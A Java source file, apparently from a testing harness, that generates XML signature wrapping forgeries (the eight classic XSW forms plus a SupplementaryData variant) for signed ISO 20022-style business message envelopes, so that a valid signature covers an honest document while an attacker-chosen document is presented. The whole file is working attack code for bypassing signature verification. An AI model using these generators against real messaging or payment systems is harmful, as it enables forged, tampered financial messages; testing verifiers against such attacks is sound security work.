package io.railhead.attack;

import io.railhead.attack.Forger.Draft;
import io.railhead.signing.Crafted;
import io.railhead.signing.SigningKey;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.UnaryOperator;

/**
 * Signature wrapping in its eight classic forms and a few relatives, for any message and any key: the signature is
 * right, but not of what a careless reader would read.
 */
final class Wrapping {
    private Wrapping() {}

    /**
     * @param evil makes of the honest document the one that the attacker wants to be read
     * @param root the element in the document that extensions come to the end of
     */
    static Map<String, String> of(Draft draft, SigningKey key, UnaryOperator<String> evil, String root) {
        Crafted honest = draft.by(key);
        String signature = honest.signature();
        String header = honest.headerBefore + signature + honest.headerAfter;
        // without the place for a signature too, so that the schema has nothing to say
        String bare = (honest.headerBefore + honest.headerAfter).replace("<Sgntr></Sgntr>", "");
        String document = honest.document;
        String bad = evil.apply(document);
        String original = Crafted.envelope(header, document);
        String badHeader = header.replaceFirst("<BizMsgIdr>.", "<BizMsgIdr>X");
        Map<String, String> made = new LinkedHashMap<>();
        made.put("xsw1", into(Crafted.envelope(bare, bad), original));
        made.put("xsw2", into(Crafted.envelope(bare, bad), signature));
        made.put("xsw3", Crafted.envelope(header, bad + document));
        made.put("xsw4", Crafted.envelope(header, bad.replace("</Document>", document + "</Document>")));
        made.put("xsw5", into(Crafted.envelope(badHeader, bad), bare + document));
        made.put("xsw6", Crafted.envelope(header.replace("</ds:Signature>", document + "</ds:Signature>"), bad));
        made.put("xsw7", Crafted.envelope(header, extended(bad, root, document)));
        made.put(
                "xsw8",
                Crafted.envelope(
                        header.replace("</ds:Signature>", "<ds:Object>" + document + "</ds:Object></ds:Signature>"),
                        bad));
        made.put("xsw-splmtrydata", Crafted.envelope(bare, extended(bad, root, original)));
        return made;
    }

    private static String into(String envelope, String more) {
        return envelope.replace("</BizMsgEnvlp>", more + "</BizMsgEnvlp>");
    }

    private static String extended(String document, String root, String hidden) {
        return Forger.replaced(
                document,
                "</" + root + "></Document>",
                "<SplmtryData><Envlp>" + hidden + "</Envlp></SplmtryData></" + root + "></Document>");
    }
}
